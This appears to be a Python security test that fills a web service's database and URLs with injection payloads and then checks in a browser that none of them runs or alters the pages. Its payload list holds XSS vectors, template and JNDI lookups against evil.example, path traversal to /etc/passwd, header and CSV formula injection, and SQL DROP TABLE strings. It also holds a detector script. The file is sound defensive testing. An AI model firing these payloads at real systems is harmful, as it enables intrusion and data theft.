"""Fills a server with attacks wherever people or clients may write, and opens each page."""

import json
import re
import time
import unicodedata
from urllib.parse import quote

import accessibility
from browser import Browser
from database import Database, literal
from servers import ask

# What each attack would do, if it ran: leave a mark in the window.
RUN = "window.ran=1"

ATTACKS = [
    # HTML.
    f"<script>{RUN}</script>",
    f"</title><script>{RUN}</script>",
    f"</textarea><script>{RUN}</script>",
    f"--><script>{RUN}</script><!--",
    f"]]><script>{RUN}</script><![CDATA[",
    f"<img src=x onerror={RUN}>",
    f"\"><img src=x onerror=\"{RUN}\">",
    f"'><img src=x onerror='{RUN}'>",
    f"\" onmouseover=\"{RUN}\" autofocus onfocus=\"{RUN}",
    f"' onclick='{RUN}' tabindex='1",
    f"` onload=`{RUN}`",
    f"<body onload={RUN}>",
    f"<details open ontoggle={RUN}>",
    f"<input autofocus onfocus={RUN}>",
    f"<video><source onerror={RUN}></video>",
    f"<marquee onstart={RUN}>loud</marquee>",
    f"<iframe srcdoc=\"<script>parent.{RUN.split('.')[1]}</script>\"></iframe>",
    f"<iframe src=javascript:parent.{RUN.split('.')[1]}></iframe>",
    "<iframe src=https://evil.example/></iframe>",
    "<object data=https://evil.example/></object><embed src=https://evil.example/>",
    "<base href=https://evil.example/>",
    "<meta http-equiv=refresh content=\"0;url=https://evil.example/\">",
    "<link rel=stylesheet href=https://evil.example/style.css>",
    "<style>*{display:none}</style>",
    "<p style=\"background:url(https://evil.example/)\">",
    "<form action=https://evil.example/><input name=password><button>Ask</button></form>",
    "<a href=\"javascript:window.ran=1\">here</a>",
    "</main></body></html><h1>Another page</h1>",
    "<h1 id=\"content\">A second content</h1>",
    "<plaintext>",
    "<!--",
    "<template shadowrootmode=open><script>window.ran=1</script></template>",
    "<noscript><p title=\"</noscript><img src=x onerror=window.ran=1>\">",
    "&lt;script&gt;window.ran=1&lt;/script&gt; &#60;script&#62; &amp;lt;",
    "<scr\u0069pt>window.ran=1</scr\u0069pt> \uff1cscript\uff1ewindow.ran=1\uff1c/script\uff1e",
    # A combining character behind a mark of HTML: one character to some, two to a browser.
    f"\"\u0301><img src=x onerror={RUN}>",
    f"<\u0338script>{RUN}</script>",
    # SVG and MathML.
    f"<svg onload={RUN}>",
    f"<svg><script>{RUN}</script></svg>",
    f"</title></svg><script>{RUN}</script>",
    f"</desc><foreignObject><iframe onload={RUN}></iframe></foreignObject>",
    f"<svg><animate onbegin={RUN} attributeName=x dur=1s>",
    "<svg><use href=https://evil.example/#x></use><image href=https://evil.example/x.png /></svg>",
    f"<math><mi xlink:href=\"javascript:{RUN}\">x</mi></math>",
    f"<math><mtext><table><mglyph><style><img src=x onerror={RUN}>",
    # Templates.
    "{{frame.database}} {{{svg}}} {{&title}} {{#frame}}{{database}}{{/frame}}",
    "{{>layout}} {{<layout}}{{/layout}} {{=<% %>=}} {{! a comment }}",
    "{{",
    "{{/layout}}",
    "${window.ran=1} #{7*7} <%= 7*7 %> {{7*7}} {{constructor.constructor('window.ran=1')()}}",
    "%(bundle)s %s %n %@ \\(bundle) $1 ${jndi:ldap://evil.example/x}",
    # Addresses and headers.
    "javascript:window.ran=1//",
    "../../../../etc/passwd",
    "..%2f..%2f%00%0d%0aSet-Cookie:%20a=b",
    "//evil.example/%5c@evil.example",
    "?days=1&a=b#fragment;x=%zz+%2B",
    "\";filename=evil.html;x=\"",
    # Spreadsheets and SQL.
    "=HYPERLINK(\"https://evil.example/\"&A1;\"here\")",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "'; DROP TABLE rules; --",
    "$$); SELECT pg_sleep(5); --",
    # What cannot be seen, or shows another order.
    "\u2066admin\u2069 \u202bsdrawkcab\u202c",
    "user\u200b\u200d\u2060name \u00ad \u061c\u200e\u200f",
    "\U000e0041\U000e0042 tags \u3164 filler \u2800",
    "Z\u0361\u0362\u0335\u0336\u0337\u0338\u0301\u0302\u0303\u0304\u0305\u0306\u0307\u0308\u0309\u030a\u030b" * 8,
    "\u0645\u0631\u062d\u0628\u0627 abc \u05e9\u05dc\u05d5\u05dd 123",
    "\U0001f469\u200d\U0001f469\u200d\U0001f467\u200d\U0001f466 \U0001f3f4\U000e0067\U000e0062\U000e007f \U0001f1e9\U0001f1ea",
    "W" * 180,
    "a line\nand <b>another</b>\n\n\nafter",
    "constructor", "__proto__", "toString", "0", "-1", "true", "null", "NaN", "others", "not known",
]
# What only a note and a reason may have.
NOTES = ["\u202eevil\u202c \u202d \u2067 open", "a\ttab \u2028 \u2029 \ufeff", "\uffff \ufdd0 \U0010ffff"]

# What a page is made of; anything else came from what is shown. What it finds is a fault.
STRANGE = """
const known = new Set(("html head meta title link script body a header nav ul ol li dl div dt dd span time main h1 h2 h3 p pre"
  + " code footer section table thead tbody tr th td caption details summary figure figcaption svg desc g path rect text line"
  + " circle polyline polygon tspan defs pattern clipPath data bdi form label input datalist option textarea button article del ins br strong em"
).split(" "));
const faults = [];
if (window.ran !== undefined) faults.push("an attack ran");
for (const element of document.querySelectorAll("*")) {
  const name = element.localName;
  if (!known.has(name)) faults.push(`an element of its own: ${element.outerHTML.slice(0, 120)}`);
  // By name: a form has its fields as members, such as `attributes`.
  for (const attribute of element.getAttributeNames()) {
    const value = element.getAttribute(attribute);
    if (attribute.startsWith("on") || attribute === "style" || attribute === "srcdoc" || attribute === "autofocus") {
      faults.push(`an attribute of its own: ${element.outerHTML.slice(0, 120)}`);
    }
    if (["href", "src", "action"].includes(attribute) && !/^(\\/(?!\\/)|#|https?:\\/\\/[a-z0-9.-]+([\\/?#]|$))/i.test(value)) {
      faults.push(`an address of its own: ${value.slice(0, 120)}`);
    }
  }
}
const count = (selector) => document.querySelectorAll(selector).length;
for (const [selector, number] of [["script", 1], ["meta", 3], ["link", 3], ["main", 1], ["h1", 1], ["base", 0], ["#content", 1]]) {
  if (count(selector) !== number) faults.push(`${count(selector)} of ${selector}, not ${number}`);
}
if (count("form") > 1) faults.push("a second form");
const hidden = document.body.textContent.match(/[\\u0000-\\u0008\\u000b-\\u001f\\u007f-\\u009f\\u2028-\\u202e\\u2066-\\u2069]/);
if (hidden) faults.push(`a character that steers: U+${hidden[0].codePointAt(0).toString(16)}`);
return faults.slice(0, 10);
"""


class Attack:
    def __init__(self, server, browser, faults):
        self.server, self.browser, self.faults = server, browser, faults
        self.database = Database(server.database)

    def fill(self):
        """Writes each attack wherever it may stand."""
        script = []
        for index, attack in enumerate(ATTACKS):
            bundle, key, short = self.bundle(index), f"rule-{index}", attack[:190].strip()
            text = literal(short)
            # The database refuses what no address has.
            link = "https://example.com/" + quote(self.ascii(attack), safe="!#$&'()*+,/:;=?@-._~")
            name = text if is_text(short) else "'a name'"
            script.append(f"""
                BEGIN;
                SET LOCAL versiongate.why = {literal(attack)};
                SET LOCAL versiongate.os_user = {literal(attack)};
                SET LOCAL application_name = {literal(attack.encode('ascii', 'replace').decode()[:60])};
                INSERT INTO apps (bundle, name, note) VALUES ({literal(bundle)}, {name}, {literal(attack)});
                INSERT INTO store_links VALUES ({literal(bundle)}, 'ios', {literal(link)});
                INSERT INTO releases (bundle, platform, version, live_at, note)
                    VALUES ({literal(bundle)}, 'ios', '2.0', now() - interval '3 days', {literal(attack)});
                INSERT INTO rules (key, bundle, enabled, versions, attributes, title, text, link, note, lockout)
                    VALUES ('{key}', {literal(bundle)}, true, '<2.0', {self.attributes(index)}, {name}, {name},
                        {literal(link)}, {literal(attack)}, {index % 3 == 0});
                INSERT INTO rule_texts VALUES ('{key}', 'de', {name}, {name});
                UPDATE rules SET note = {literal(NOTES[index % len(NOTES)])} WHERE key = '{key}';
                COMMIT;
                BEGIN;
                SET LOCAL versiongate.why = {literal(NOTES[index % len(NOTES)])};
                UPDATE rules SET position = {index} WHERE key = '{key}';
                COMMIT;
                INSERT INTO check_counts SELECT date_trunc('hour', now()), {literal(bundle)}, {text}, {text}, {text},
                    {text}, {text}, 10, 5, 2;
                INSERT INTO check_counts SELECT date_trunc('hour', now()), {literal(bundle)}, 'ios', '1.' || place,
                    {text}, {text} || place, '9' || place, 10, 5, 2 FROM generate_series(1, 3) AS place;
                INSERT INTO rule_counts VALUES (date_trunc('hour', now()), '{key}', 9, 3);
            """)
        self.database.run("GRANT versiongate_viewer TO versiongate_server;\n" + "".join(script))
        self.server.follow(self.database)
        # What is no check is refused, and is then nothing that a page could show.
        for index, attack in enumerate(ATTACKS):
            self.server.check({"bundle": attack[:200]})
            self.server.check({"bundle": self.bundle(index), "version": "1.0", "platform": "ios",
                               "language": attack[:60]})
        time.sleep(6)

    def bundle(self, index):
        part = re.sub(r"[.]+", ".", re.sub(r"[,;]|://", "/", self.ascii(ATTACKS[index])))
        return part[:200].strip(".") + f".{index}"

    @staticmethod
    def ascii(attack):
        """The attack as a bundle and a link may have it: ASCII without blanks."""
        return re.sub(r"[^!-~]", "/", attack)

    def attributes(self, index):
        name = re.sub(r"[^a-z_]", "", ATTACKS[index].lower())[:30] or "x"
        value = json.dumps(ATTACKS[index][:60]).replace("'", "''")
        return "NULL" if index % 2 == 0 or not is_text(ATTACKS[index][:60]) else f"'{{\"{name}\": [{value}]}}'"

    def proof(self):
        """An attack that runs is found: in the page, and in the console."""
        browser, faults = self.browser, self.faults
        browser.faults = []
        browser.open("/")
        browser.run("document.body.insertAdjacentHTML('beforeend', arguments[0]); window.ran = 1;", ATTACKS[5])
        found = browser.run(STRANGE)
        # All that it leaves is waited for: what comes later would be a fault of the next page.
        left = ("Content Security Policy", "/x was answered 404", "status of 404")
        for _ in range(100):
            browser.judge("/")
            if all(any(words in fault for fault in browser.faults) for words in left):
                break
            time.sleep(0.1)
        else:
            found = []
        if len(found) < 3:
            faults.append(f"an attack that ran was not found: {found}, {browser.faults}")
        browser.faults = faults

    def pages(self):
        """Each page with each attack in it."""
        browser = self.browser
        browser.look(360, "light")
        queries = "bundle version build platform region os language attributes at revision colour days before about since by search".split()
        for index, attack in enumerate(ATTACKS):
            bundle = quote(self.bundle(index), safe="")
            shown = visible(attack[:190])
            self.open(f"/apps/{bundle}?days=1", shown if is_text(attack[:190]) else None)
            self.open(f"/rules/rule-{index}", shown if is_text(attack[:190]) else None)
            self.open(f"/try?bundle={bundle}&version=1.0&platform=ios&attributes={quote(attack, safe='')}%3D{quote(attack, safe='')}",
                      None, any_status=True)
            self.open(f"/history?about=rule-{index}", visible(attack))
            path = quote(attack, safe="")
            self.open(f"/apps/{path}", None, any_status=True)
            self.open(f"/rules/{path}", None, any_status=True)
            name = queries[index % len(queries)]
            self.open(f"/{('try', 'history', 'apps/' + bundle, 'rules/rule-0')[index % 4]}?{name}={path}", None, any_status=True)
            self.document(f"/apps/{bundle}/systems.csv?days=1")
        for path in ("/", "/history", "/unknowns", f"/history?before={len(ATTACKS)}"):
            self.open(path, None)
            accessibility.judge_by_axe(browser, path)

    def open(self, path, text, any_status=False):
        browser = self.browser
        status = ask(self.server.management, "GET", path)[0]
        if status >= 500 or (status >= 400 and not any_status):
            browser.fault(path, f"it is answered {status}")
        browser.open(path, status)
        for fault in browser.run(STRANGE):
            browser.fault(path, fault)
        if text is not None and squeezed(text) not in squeezed(browser.run("return document.body.textContent")):
            browser.fault(path, f"it does not show {text!r}")

    def document(self, path):
        """A CSV: nothing that a spreadsheet computes, nothing that a browser shows as a page."""
        status, fields, body = ask(self.server.management, "GET", path)
        if status != 200 or fields.get("Content-Type") != "text/csv; charset=utf-8":
            self.faults.append(f"{path}: {status} {fields.get('Content-Type')}")
        if not re.fullmatch(r'attachment; filename="[A-Za-z0-9._-]+\.csv"', fields.get("Content-Disposition", "")):
            self.faults.append(f"{path}: {fields.get('Content-Disposition')}")
        if any(re.match(r'"?[=+@\t\r-]', line) for line in body.decode().splitlines()):
            self.faults.append(f"{path}: a formula in {body!r}")


def is_text(text):
    """Whether the schema takes it for people: no control characters but the end of a line."""
    return all(character == "\n" or unicodedata.category(character) != "Cc" for character in text)


def visible(text):
    """How a page shows a text: what steers is written out, but the two joiners."""
    return "".join(
        f"\\u{{{ord(character):x}}}"
        if unicodedata.category(character) in ("Cc", "Cf", "Zl", "Zp") and character not in "\n\u200c\u200d" else character
        for character in text
    )


def squeezed(text):
    return re.sub(r"\s+", " ", text).strip()


def judge(faults, server):
    with Browser(f"http://{server.management}", faults) as browser:
        attack = Attack(server, browser, faults)
        attack.proof()
        attack.fill()
        attack.pages()
    print(f"{len(ATTACKS)} attacks in {browser.pages} pages; {len(faults)} faults")
